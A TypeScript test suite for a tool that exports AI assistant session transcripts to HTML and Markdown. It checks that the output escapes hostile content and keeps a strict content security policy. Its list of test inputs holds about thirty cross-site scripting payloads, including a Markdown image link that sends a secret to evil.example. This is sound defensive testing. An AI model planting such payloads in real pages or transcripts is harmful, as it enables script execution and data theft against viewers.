import { createHash } from "node:crypto";
import { describe, expect, test } from "vitest";
import { exportSessionToHtml, exportSessionToMarkdown } from "../src/index.ts";
import { conversation, createDataDirectory, jsonLines, sessionId, type DataDirectory } from "./data-directory.ts";
import { parsePage } from "./html-page.ts";

/** Examples of texts that ran as a script in viewers of transcripts, one of each kind. */
const attacks: readonly string[] = [
  "<img src=x onerror=alert(1)>",
  '<img srcset="https://evil.example/a.png 1x">',
  "<svg/onload=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>",
  '<a href="javascript:alert(1)">click</a>',
  '<a href="data:text/html,<script>alert(1)</script>">click</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  "</script><script>alert(1)</script>",
  "</style><script>alert(1)</script>",
  "</title><script>alert(1)</script>",
  "</pre></details></section></main></body><script>alert(1)</script>",
  "<!--><script>alert(1)</script-->",
  "<![CDATA[<script>alert(1)</script>]]>",
  "<style>@import 'https://evil.example';body{background:url(https://evil.example)}</style>",
  '<link rel=stylesheet href="https://evil.example">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example">',
  '<form action="https://evil.example"><button>go</button></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '" onmouseover="alert(1)" x="',
  "' onmouseover='alert(1)' x='",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;img src=x onerror=alert(1)&#62;",
  "![x](https://evil.example/?q=SECRET)",
  "[x](javascript:alert(1))",
  "[x]( <JavaScript&colon;alert(1)>)",
  "[x]: data:text/html,x",
  "<https://evil.example/>",
  "\u0000<script\u0000>alert(1)</script>",
];

/** Makes a session with the attack in every field that an export shows. */
function attacked(attack: string): DataDirectory {
  const data = createDataDirectory();
  const talk = conversation(undefined, { cwd: `/work/${attack}`, gitBranch: attack, version: attack });
  data.session(sessionId(1), [
    talk.user(attack),
    talk.answer(
      [
        { type: "thinking", thinking: attack },
        { type: "text", text: attack },
        { type: "tool_use", id: attack, name: attack, input: { command: attack, [attack]: attack } },
        { type: "image", source: { type: "base64", media_type: attack, data: attack } },
        { type: attack, text: attack },
      ],
      { message: { model: attack } },
    ),
    talk.user([{ type: "tool_result", tool_use_id: attack, content: attack, is_error: true }]),
    talk.line("system", { subtype: attack, content: attack }),
    talk.line("attachment", { attachment: { type: "queued_command", prompt: attack } }),
    { type: "custom-title", customTitle: attack },
  ]);
  const side = conversation(undefined, { isSidechain: true });
  data.write(`projects/-work-app/${sessionId(1)}/subagents/agent-a1.jsonl`, jsonLines([side.user(attack)]));
  const meta = JSON.stringify({ agentType: attack, description: attack });
  data.write(`projects/-work-app/${sessionId(1)}/subagents/agent-a1.meta.json`, meta);
  return data;
}

const allowed: Readonly<Record<string, readonly string[]>> = {
  "!doctype": ["html"],
  html: ["lang"],
  meta: ["charset", "http-equiv", "content", "name"],
  header: ["class"],
  nav: ["class"],
  section: ["class", "id"],
  details: ["class", "open"],
  div: ["class"],
  dl: ["class"],
  pre: ["class"],
  p: ["class"],
  span: ["class"],
  table: ["class"],
  time: ["datetime"],
  h1: ["class"],
  h2: ["id"],
  a: ["href", "rel"],
};
const withoutAttributes =
  "head title style body main h3 h4 tr th td summary dt dd code br hr blockquote em strong ol li".split(" ");

describe("a page of a hostile session", () => {
  test.each(attacks)("HTML of a hostile session contains no element or attribute of the attack: %j", async (attack) => {
    const html = await exportSessionToHtml(0, { ...attacked(attack).config, includeAgents: true });
    const { elements, text } = parsePage(html);
    for (const { name, attributes } of elements) {
      expect([...Object.keys(allowed), ...withoutAttributes]).toContain(name);
      for (const attribute of Object.keys(attributes)) expect(allowed[name] ?? []).toContain(attribute);
      // A link leads to this page, or to a web page that does not learn the address of this page.
      if (name === "a" && !/^#[\w-]+$/.test(attributes["href"] ?? ""))
        expect(attributes).toMatchObject({
          href: expect.stringMatching(/^https?:\/\//) as string,
          rel: /noreferrer/,
        });
    }
    expect(elements.filter(({ name }) => name === "style").length).toBe(1);
    // The page shows the whole text, with escapes for invisible characters.
    const visible = attack.replaceAll("\0", "\\u0000");
    expect(text.split(visible).length).toBeGreaterThan(8);
    expect(elements.find(({ name }) => name === "title")?.text).toBe(visible);
  });

  test("HTML of a hostile session has a content security policy that allows only the style sheet of the export", async () => {
    const { elements } = parsePage(await exportSessionToHtml(0, attacked("x").config));
    const style = elements.find(({ name }) => name === "style")?.text ?? "";
    const rules = elements.filter(({ attributes }) => attributes["http-equiv"] === "Content-Security-Policy");
    const hash = createHash("sha256").update(style).digest("base64");
    expect(rules.map(({ attributes }) => attributes["content"])).toEqual([
      `default-src 'none'; style-src 'sha256-${hash}'; img-src data:; base-uri 'none'; form-action 'none'`,
    ]);
    // The policy applies only to elements that come after it.
    const before = elements.slice(0, elements.indexOf(rules[0] ?? { name: "", attributes: {}, path: [], text: "" }));
    expect(before.map(({ name }) => name)).toEqual(["!doctype", "html", "head", "meta"]);
    expect(style).not.toMatch(/url\(|@import|expression/i);
  });
});

test.each(attacks)("Markdown of a hostile session has no HTML, image or script link: %j", async (attack) => {
  const markdown = await exportSessionToMarkdown(0, { ...attacked(attack).config, includeAgents: true });
  const outside = markdown.replaceAll(/^(`{3,})[a-z]*\n[\s\S]*?^\1$/gm, "");
  expect(outside.replaceAll(/<\/?(?:details|summary)>/g, "")).not.toMatch(/<[A-Za-z/!?]/);
  expect(outside).not.toMatch(/(?<!\\)!\[/);
  expect(outside).not.toMatch(/(\]\(|\]:)\s*<?\s*(javascript|data)\s*(:|&colon;)/i);
});
